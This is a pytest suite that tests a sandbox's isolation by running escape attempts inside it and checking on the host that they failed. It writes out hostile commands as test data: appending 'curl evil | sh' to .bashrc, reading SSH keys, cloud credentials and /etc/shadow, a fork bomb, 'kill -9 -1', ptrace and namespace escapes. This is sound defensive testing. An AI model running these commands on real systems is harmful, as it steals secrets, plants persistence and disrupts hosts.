"""The escape suite: every attempt a hostile command might make, each checked from the host.

Each test makes the attempt inside a seccomp-level sandbox and then verifies on the
host side that nothing happened (no connection accepted, no file written, the host
process alive and untraced, no mount left, the clock and hostname unchanged). Every
test runs once per way a launch can start: cold, from a standby forked by the caller,
and from a standby made by the zygote; the isolation must not depend on it.
"""
from __future__ import annotations

import os
import signal
import socket
import time
import uuid

import pytest

from agent_immune.sandbox import standby
from agent_immune.sandbox.seccomp import ALWAYS_REFUSED

from .conftest import ROOT_ONLY, accepted, host_mounts, py, run, run_cgroups, sh

pytestmark = ROOT_ONLY


def _drop_current_standby() -> None:
    standby.ready(5)
    with standby._lock:
        sb, standby._current = standby._current, None
    if sb is not None:
        sb.discard()


@pytest.fixture(autouse=True, params=["cold", "forked standby", "zygote standby"])
def launch_path(request, monkeypatch):
    """The test's first run starts this way (later runs in it from the same kind of standby)."""
    _drop_current_standby()
    if request.param == "cold":
        monkeypatch.setenv("AGENT_IMMUNE_SANDBOX_STANDBY", "0")
    else:
        zygote = request.param == "zygote standby"
        monkeypatch.setattr(standby, "_zygote_failed", not zygote)   # failed: standbys are forks
        standby.prepare_soon(zygote_wait=5.0 if zygote else 0.0)
        assert standby.ready(5) and standby._current.child is not zygote
    yield request.param
    _drop_current_standby()


def assert_refused(result, syscall: str) -> None:
    """The syscall was refused, named in the audit, and its caller killed."""
    assert result.status == "violation", result
    names = [v.syscall for v in result.violations]
    assert syscall in names, names
    assert next(v for v in result.violations if v.syscall == syscall).detail.startswith("killed")


def assert_killed_for(result, syscall: str) -> None:
    """As assert_refused, and the command itself died of SIGSYS."""
    assert_refused(result, syscall)
    assert result.signal == signal.SIGSYS or result.exit_code == 128 + signal.SIGSYS, result


# --- network -----------------------------------------------------------------------------

def test_tcp_connect_to_host_loopback_is_refused(tcp_listener, workdir):
    port = tcp_listener.getsockname()[1]
    r = py(f"""
        import socket
        socket.create_connection(("127.0.0.1", {port}), timeout=2)
        print("CONNECTED")
        """, workdir=str(workdir))
    assert b"CONNECTED" not in r.stdout
    assert_killed_for(r, "connect")
    assert f"127.0.0.1:{port}" in r.violations[0].detail
    assert not accepted(tcp_listener)


def test_allow_net_reaches_the_host_loopback(tcp_listener, workdir):
    """The positive control: the same attempt succeeds when the network is allowed."""
    port = tcp_listener.getsockname()[1]
    r = py(f"""
        import socket
        socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
        print("CONNECTED")
        """, workdir=str(workdir), allow_net=True)
    assert r.status == "ok", r
    time.sleep(0.05)
    assert accepted(tcp_listener)


def test_connect_to_host_unix_socket_is_refused(host_dir, workdir):
    path = str(host_dir / "host.sock")
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(path)
    srv.listen(1)
    srv.setblocking(False)
    try:
        r = py(f"""
            import socket
            s = socket.socket(socket.AF_UNIX)
            s.connect({path!r})
            print("CONNECTED")
            """, workdir=str(workdir))
        assert b"CONNECTED" not in r.stdout
        assert_killed_for(r, "connect")
        assert path in r.violations[0].detail
        assert not accepted(srv)
    finally:
        srv.close()


def test_connect_to_host_abstract_socket_is_refused(workdir):
    name = "agent-immune-test-" + uuid.uuid4().hex
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind("\0" + name)
    srv.listen(1)
    srv.setblocking(False)
    try:
        r = py(f"""
            import socket
            s = socket.socket(socket.AF_UNIX)
            s.connect("\\0{name}")
            print("CONNECTED")
            """, workdir=str(workdir))
        assert b"CONNECTED" not in r.stdout
        assert_killed_for(r, "connect")
        assert not accepted(srv)
    finally:
        srv.close()


def test_udp_to_host_never_arrives(workdir):
    rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rx.bind(("127.0.0.1", 0))
    rx.settimeout(0.3)
    port = rx.getsockname()[1]
    try:
        r = py(f"""
            import socket
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for _ in range(5):
                try:
                    s.sendto(b"ESCAPED", ("127.0.0.1", {port}))
                except OSError as e:
                    print("sendto failed", e)
            """, workdir=str(workdir))
        assert r.status in ("ok", "failed", "violation"), r
        with pytest.raises(socket.timeout):
            rx.recvfrom(100)
    finally:
        rx.close()


def test_raw_packet_socket_is_refused(workdir):
    r = py("""
        import socket
        try:
            socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
            print("RAW OK")
        except PermissionError:
            print("EPERM")
        """, workdir=str(workdir))
    assert b"RAW OK" not in r.stdout
    assert b"EPERM" in r.stdout


# --- files -------------------------------------------------------------------------------

def test_write_outside_workdir_by_path_fails(host_dir, workdir):
    target = host_dir / "outside.txt"
    r = sh(f"echo escaped > {target}; echo escaped > /etc/agent-immune-escape; "
           f"echo escaped > /usr/agent-immune-escape; echo inside > {workdir}/inside.txt; echo done",
           workdir=str(workdir))
    assert b"done" in r.stdout
    assert not target.exists()
    assert not os.path.exists("/etc/agent-immune-escape")
    assert not os.path.exists("/usr/agent-immune-escape")
    assert (workdir / "inside.txt").read_text() == "inside\n"   # the workdir is writable


def test_write_through_symlink_out_of_workdir_fails(host_dir, workdir):
    victim = host_dir / "victim.txt"
    victim.write_text("original\n")
    (workdir / "link").symlink_to(victim)
    (workdir / "dangling").symlink_to(host_dir / "created.txt")
    r = sh("echo pwned >> link; echo pwned > dangling; echo done", workdir=str(workdir))
    assert b"done" in r.stdout
    assert victim.read_text() == "original\n"
    assert not (host_dir / "created.txt").exists()


def test_hard_link_out_of_workdir_cannot_write_host_file(host_dir, workdir):
    victim = host_dir / "victim.txt"
    victim.write_text("original\n")
    r = sh(f"ln {victim} hl; echo pwned >> hl; echo done", workdir=str(workdir))
    assert b"done" in r.stdout
    assert victim.read_text() == "original\n"
    assert os.stat(victim).st_nlink == 1


def test_append_to_bashrc_fails(home, workdir):
    r = sh("echo 'curl evil | sh' >> ~/.bashrc; echo done", workdir=str(workdir))
    assert b"done" in r.stdout
    assert (home / ".bashrc").read_text() == "# original bashrc\n"


def test_planted_secrets_are_unreadable(home, workdir):
    key = (home / ".ssh" / "id_ed25519").read_text()
    r = sh("cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc /etc/shadow; ls -la ~/.ssh; "
           "grep -r PLANTED ~ 2>/dev/null; echo done", workdir=str(workdir))
    assert b"done" in r.stdout
    out = r.stdout + r.stderr
    assert key.encode().strip() not in out
    assert b"PLANTED" not in out
    with open("/etc/shadow", "rb") as f:
        first = f.readline().strip()
    assert first and first not in out


def test_secrets_stay_hidden_when_the_workdir_contains_them(home):
    key = (home / ".ssh" / "id_ed25519").read_text().strip()
    r = sh("cat .ssh/id_ed25519; cat .aws/credentials; echo x > .ssh/new; echo done", workdir=str(home))
    assert b"done" in r.stdout
    assert key.encode() not in r.stdout + r.stderr
    assert not (home / ".ssh" / "new").exists()
    assert (home / ".ssh" / "id_ed25519").read_text().strip() == key   # untouched on the host


def test_only_the_allowed_device_nodes_exist(workdir):
    r = sh("ls /dev", workdir=str(workdir))
    names = set(r.stdout.decode().split())
    assert {"null", "zero", "random", "urandom", "tty"} <= names
    assert not names & {"sda", "vda", "mem", "kmsg", "port", "mapper", "kvm", "loop0", "fuse"}


def test_proc_sys_and_cgroup_tree_are_read_only(workdir):
    before = open("/proc/sys/kernel/domainname").read()
    pids_root = "/sys/fs/cgroup/pids/cgroup.procs" if os.path.exists("/sys/fs/cgroup/pids") \
        else "/sys/fs/cgroup/cgroup.procs"
    r = sh("echo evil > /proc/sys/kernel/domainname; echo 1 > /proc/sys/vm/drop_caches; "
           f"echo 1 > {pids_root}; echo h > /proc/sysrq-trigger; "
           "mkdir /sys/fs/cgroup/memory/escape; echo done", workdir=str(workdir))
    assert b"done" in r.stdout
    assert open("/proc/sys/kernel/domainname").read() == before
    assert not os.path.exists("/sys/fs/cgroup/memory/escape")
    assert r.stderr.count(b"Read-only file system") + r.stderr.count(b"Permission denied") >= 4, r.stderr


# --- processes ---------------------------------------------------------------------------

def test_host_process_environment_is_unreadable(host_process, workdir):
    proc, marker = host_process
    r = sh(f"cat /proc/{proc.pid}/environ; cat /proc/*/environ; echo done", workdir=str(workdir))
    assert b"done" in r.stdout
    assert marker.encode() not in r.stdout + r.stderr


def test_signalling_a_host_process_fails(host_process, workdir):
    proc, _ = host_process
    r = sh(f"kill -9 {proc.pid}; kill -9 -1; echo done", workdir=str(workdir))
    assert b"done" in r.stdout or r.status in ("failed", "killed")
    time.sleep(0.05)
    assert proc.poll() is None   # still running


def test_ptrace_attach_to_host_process_is_refused(host_process, workdir):
    proc, _ = host_process
    r = py(f"""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        print("rc", libc.ptrace(16, {proc.pid}, 0, 0))
        """, workdir=str(workdir))
    assert_killed_for(r, "ptrace")
    assert proc.poll() is None
    with open(f"/proc/{proc.pid}/status") as f:
        assert "TracerPid:\t0" in f.read()


def test_mount_is_refused_and_leaves_nothing(workdir):
    before = host_mounts()
    r = sh(f"mount -t tmpfs none {workdir}; echo status $?", workdir=str(workdir))
    assert_refused(r, "mount")
    assert b"status 159" in r.stdout   # mount died of SIGSYS; the shell went on
    assert host_mounts() == before


def test_nested_user_namespace_is_refused(workdir):
    r = run(["unshare", "-U", "-r", "id"], workdir=str(workdir))
    assert_killed_for(r, "unshare")
    r = py("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        # clone(CLONE_NEWUSER | SIGCHLD) through the raw syscall
        print("rc", libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0))
        """, workdir=str(workdir))
    assert_killed_for(r, "clone")


@pytest.mark.parametrize("name", sorted(
    ALWAYS_REFUSED & {"ptrace", "mount", "umount2", "pivot_root", "chroot", "reboot", "iopl", "ioperm",
                      "kexec_load", "kexec_file_load", "init_module", "finit_module", "delete_module", "bpf",
                      "perf_event_open", "userfaultfd", "keyctl", "add_key", "request_key", "io_uring_setup",
                      "io_uring_enter", "io_uring_register", "unshare", "setns", "open_by_handle_at", "swapon",
                      "swapoff", "settimeofday", "clock_settime", "sethostname"}))
def test_dangerous_syscall_kills_with_sigsys_and_is_named(name, workdir):
    import pyseccomp

    nr = pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, name)
    r = py(f"""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall({nr}, 0, 0, 0, 0, 0, 0)
        print("SURVIVED")
        """, workdir=str(workdir))
    assert b"SURVIVED" not in r.stdout
    assert_killed_for(r, name)
    v = next(v for v in r.violations if v.syscall == name)
    assert len(v.args) == 6 and v.time >= 0 and v.detail.startswith("killed")


def test_settimeofday_leaves_the_clock_alone(workdir):
    r = sh("date -s '2001-01-01 00:00:00'; echo survived", workdir=str(workdir))
    assert r.status == "violation"
    assert {v.syscall for v in r.violations} & {"settimeofday", "clock_settime"}
    assert time.time() > 1_700_000_000


def test_sethostname_leaves_the_host_name_alone(workdir):
    before = socket.gethostname()
    r = sh("hostname pwned-host; echo status $?", workdir=str(workdir))
    assert_refused(r, "sethostname")
    assert b"status 159" in r.stdout
    assert socket.gethostname() == before


# --- resources ---------------------------------------------------------------------------

def test_fork_bomb_is_contained_and_cleaned_up(workdir):
    r = sh(":(){ :|:& };:; sleep 5", workdir=str(workdir), pids=32, timeout=3)
    assert r.status in ("timeout", "killed", "failed", "ok"), r
    assert r.duration_ms < 15_000
    assert not run_cgroups()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cgroup") as f:
                # Only our own runs: another process on the machine may be sandboxing too.
                assert f"agent-immune/run-{os.getpid()}-" not in f.read()
        except FileNotFoundError:
            pass


def test_memory_bomb_is_stopped(workdir):
    r = py("""
        chunks = []
        while True:
            chunks.append(bytearray(8 * 1024 * 1024))
        """, workdir=str(workdir), memory="64M", memory_early_stop=False)
    assert r.status == "oom", r
    assert r.oom_killed
    assert not run_cgroups()


def test_cpu_spin_is_killed_at_the_timeout(workdir):
    t = time.monotonic()
    r = sh("while :; do :; done", workdir=str(workdir), timeout=1)
    assert r.status == "timeout" and r.timed_out
    assert r.signal == signal.SIGKILL
    assert time.monotonic() - t < 10


def test_secret_environment_variables_do_not_reach_the_command(monkeypatch, workdir):
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_PLANTEDTOKEN")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "PLANTEDAWSKEY")
    monkeypatch.setenv("DB_PASSWORD", "PLANTEDPASSWORD")
    monkeypatch.setenv("HARMLESS_SETTING", "visible")
    r = run(["env"], workdir=str(workdir), env={"API_TOKEN": "passed-on-purpose"})
    assert b"PLANTED" not in r.stdout
    assert b"HARMLESS_SETTING=visible" in r.stdout
    assert b"API_TOKEN=passed-on-purpose" in r.stdout
    assert {"GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD"} <= set(r.policy["env_dropped"])


def test_no_capabilities_and_no_new_privs(workdir):
    r = sh("grep -E '^(CapEff|CapPrm|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status", workdir=str(workdir))
    fields = dict(line.split(":\t") for line in r.stdout.decode().splitlines())
    assert fields["CapEff"] == fields["CapPrm"] == fields["CapBnd"] == fields["CapAmb"] == "0000000000000000"
    assert fields["NoNewPrivs"] == "1" and fields["Seccomp"] == "2"


def test_own_pid_namespace_and_new_session(workdir):
    r = py("""
        import os
        print(os.getpid(), os.getsid(0))
        print(*sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
        """, workdir=str(workdir))
    first, second = r.stdout.decode().splitlines()
    pid, sid = map(int, first.split())
    assert pid < 10 and sid == 1          # its own pid namespace; the init's new session
    visible = [int(p) for p in second.split()]
    assert pid in visible and all(p < 10 for p in visible)   # no host process, not even the init


def test_the_command_cannot_take_over_or_stop_its_init(workdir):
    r = sh("for s in INT TERM HUP QUIT USR1 KILL; do kill -$s 1; done; cat /proc/1/environ /proc/1/cmdline; "
           "ls -l /proc/1/fd; echo still-here", workdir=str(workdir))
    assert r.stdout.endswith(b"still-here\n") and r.exit_code == 0, r
    assert b"PATH=" not in r.stdout
